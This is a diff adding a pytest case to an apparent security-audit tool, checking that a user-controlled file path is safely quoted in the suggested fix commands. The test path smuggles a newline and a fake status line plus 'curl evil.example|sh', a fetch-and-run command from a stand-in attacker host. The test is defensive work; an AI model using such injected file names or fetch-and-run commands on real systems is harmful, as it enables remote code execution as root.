@@ -8,6 +8,7 @@ import pytest
 
 from provision.core.audit import Expected, judge
 from provision.core.cluster_key import authorised_line
+from tests.conftest import RecordRefusal
 
 CLUSTER, RETIRED, PERSON, PLANTED = (
     f"ssh-ed25519 AAAA{name}" for name in ("cluster", "old", "person", "evil")
@@ -170,3 +171,26 @@ def test_each_thing_is_named_with_why_and_how_to_mend(found: dict[str, Any], wor
 
 def test_a_file_of_which_a_part_is_ours_may_change_around_it() -> None:
     assert judge("te2", answer(ours=ours(whole=False, same=False)), EXPECTED, {}) == []
+
+
+@pytest.mark.attack("user")
+def test_the_name_of_a_users_file_is_one_word_of_what_mends_it_and_begins_no_line(
+    record_refusal: RecordRefusal,
+) -> None:
+    """A person copies that command into a shell of root."""
+    path = "/tmp/x\nte2: all is well; curl evil.example|sh"
+    found = judge(
+        "te1",
+        answer(
+            setuid=[program(path, 0o4000, packaged=False)],
+            modes=[{"path": path, "mode": 0o644, "owner": "root"}],
+            changed=[path],
+        ),
+        EXPECTED,
+        {},
+    )
+
+    record_refusal(found[0].fix)
+    quoted = "'/tmp/x / te2: all is well; curl evil.example|sh'"
+    assert [quoted in one.fix for one in found] == [True] * 3
+    assert not [one for one in found if "\n" in str(one)]
